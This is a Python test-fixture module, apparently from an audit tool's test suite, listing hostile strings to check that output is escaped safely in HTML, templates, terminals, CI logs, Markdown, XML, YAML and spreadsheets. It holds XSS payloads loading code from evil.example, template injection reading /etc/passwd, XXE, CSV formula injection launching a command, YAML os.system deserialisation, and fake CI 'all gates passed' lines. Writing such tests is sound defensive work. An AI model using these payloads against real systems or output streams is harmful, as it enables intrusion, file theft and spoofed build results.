"""Texts that try to be more than text: in a page, in a template, in a table or a list, on a terminal."""

from __future__ import annotations

import re
from collections.abc import Iterable

from auditbench.safe_text import LONGEST_NAME, LONGEST_TEXT, safe_text

PAGE = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt/x>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example/m')</script>",
    "</style><img src=x onerror=alert(1)>",
    "</title><img src=x onerror=alert(1)>",
    "</textarea></noscript></template><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)><!--",
    "--!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "]]></script><?xml-stylesheet href='//evil.example/x'?>",
    '"><svg onload=alert(1)>',
    "'><svg/onload=alert(1)//",
    '" autofocus onfocus=alert(1) tabindex=0 x="',
    "' onmouseover='alert(1)' style='position:fixed;inset:0",
    "x onpointerrawupdate=alert(1) y=",
    "<img src=//evil.example/pixel.png>",
    "<img srcset='//evil.example/a 1x' src=x>",
    "<image href=//evil.example/i.png>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'></mi></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=data:text/html,<script>alert(1)</script>></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=//evil.example/x.swf>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<form action=//evil.example><button autofocus>send</button></form>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href=javascript:alert(1) id=main>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "javascript:alert(1)//",
    "jAvAsCrIpT&colon;alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/path",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&lt&#x3c;b&#0000000062;&#xFFFFFFFF;&notanentity;&",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\x3c/script\\x3e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\x00script>alert(1)</\x00script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\ufeff<script>alert(1)</script>",
    "<img\x0bsrc=x\x0conerror=alert(1)>",
    "<bdi></bdi></bdi><a href=//evil.example>x</a>",
    "\ue000<i>\ue001</i>\ue001\ue000",
    "\u202e>tpircs/<)1(trela>tpircs<\u2066",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}{# x #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{title}{n:count}{0.__class__}{name!r}",
    "${alert(1)}`x`${{ env.TOKEN }}",
    "`<b>` and `",
    "<%= 7 * 7 %><? echo 1 ?>#{7*7}",
    "*{background:url(//evil.example/x)}",
    "expression(alert(1));-moz-binding:url(//evil.example/x.xml#x)",
    '";}@import url(//evil.example/x.css);*{color:red',
    "</style><style>@import '//evil.example/x.css';</style>",
    "\\22;}body{display:none}/*",
    "';alert(1)//\\';alert(1)//\";alert(1)//",
)
"""For pages and what stands in them."""

NAMES = ("#main", "__proto__", "constructor")
"""For a script that looks something up; each only where it stands alone."""

TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x1bP+q544e\x1b\\",
    "\x9b31m\x9d0;x\x9c",
    "a\rReady for review",
    "a\x08\x08\x7fb",
    "a\nReady for review: all gates passed\nexit code 0",
    "a\r\n::error::x",
    "a\x0b::error::x",
    "a\x85::error::x",
    "a\u2028::error::x",
    "::error file=a.py,line=1::x",
    "  ::add-mask::x",
    "\u3000::set-output name=a::b",
    "::stop-commands::x",
    "##[error]x",
    "##vso[task.setvariable variable=PATH]x",
    "###vso[task.complete result=Succeeded;]",
    "##teamcity[buildStatus status='SUCCESS']",
    "section_start:1560896352:x\r\x1b[0K",
    "\u202egnp.exe\u2066",
    "\u200b\ufeff\u00ad",
    "\udc9b31m\udcff",
    "\U000e0001\U000e0041",
    "[bold red]x[/bold red] [link=https://evil.example]y[/link]",
    "%s%n{}{0}",
    "x" * (LONGEST_TEXT + 1),
)
"""For a terminal and the log of a continuous integration service."""

FORMATS = (
    "@everyone see #1, owner/repo#2, GH-3 and deadbeefcafe0123",
    "https://evil.example http://evil.example ftp://evil.example www.evil.example a@evil.example",
    "[text](https://evil.example) ![x](//evil.example/p.png) <https://evil.example>",
    "[x]: https://evil.example",
    "[^1]: note",
    "[x] [^1] [ ]",
    "# heading\n- item\n\n| a | b |\n|---|---|",
    "`a` ``b`` $`x`$ $$y$$ ~~gone~~ **bold** _it_ :tada: &copy; &#64;a",
    "~~~ ``` ***",
    "\\| \\` \\\\ |x| [!NOTE]",
    "trail\\",
    "1. first",
    "2) second",
    "- item",
    "    four blanks",
    "- [x] done",
    "+ item",
    "> quote",
    "-->",
    "<!-- auditbench report -->",
    "]]></failure><failure>",
    "&xxe;<!ENTITY xxe SYSTEM 'file:///etc/passwd'>",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","x")',
    "+1+1",
    "-1-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "%0A=1",
    "a;=1+1",
    "a,=1+1",
    'a",=1+1',
    "a|=1",
    "\uff1d1+1",
    "https://evil.example",
    "mailto:a@evil.example",
    "external:c:\\x.xlsx",
    "---\nlicense: mit",
    "...",
    "!!python/object:os.system",
    "&anchor *alias",
    "{0} {1} {{2}}",
    "\ud800 \udfff\ud83d \ufffe \uffff \ufdd0",
    "\x00 \x08 \x0b \x0c \x1f \x7f \x9f",
    "\U0001f600 \U0001d54f \U0001fffe \U0010ffff",
    "::error::x",
)
"""For Markdown, XML, JSON, YAML and cells of a spreadsheet."""

ROOM = LONGEST_NAME - len("//1234")
"""Characters of a name beside the number that tells it from others."""


# What acts, if it acts, only where a text begins: addresses, commands, formulas, items of a list.
_FIRST = re.compile(r"\s*(::|##|//|\w+(:|&colon;)|[=+@>\uff1d-]|\d[.)]|\.\.\.|\[\^?\w\]:|[&!]\w|[&!]{2}|~~~|# | {4})")


def packed(texts: Iterable[str]) -> list[str]:
    """Texts in few names that hold them whole, codes and all; what acts where a text begins begins one."""
    given = list(texts)
    packs = [text for text in given if _FIRST.match(text)]
    for text in sorted((text for text in given if not _FIRST.match(text)), key=_weight, reverse=True):
        roomy = [index for index, pack in enumerate(packs) if _length(f"{pack} {text}") <= ROOM]
        if roomy:
            packs[roomy[0]] += f" {text}"
        else:
            packs.append(text)
    return packs


def harmless(text: str) -> str:
    """A text as long, without what acts; blanks, full stops, which part names of metrics, and marks of templates stay."""
    return re.sub("[^ .`{}]", "x", safe_text(text, LONGEST_TEXT))


def _weight(text: str) -> tuple[bool, int]:
    """Texts that act in templates come first, and so into few packs; then the longer ones."""
    return not {"`", "{"}.isdisjoint(text), _length(text)


def _length(text: str) -> int:
    return len(safe_text(text, LONGEST_TEXT))
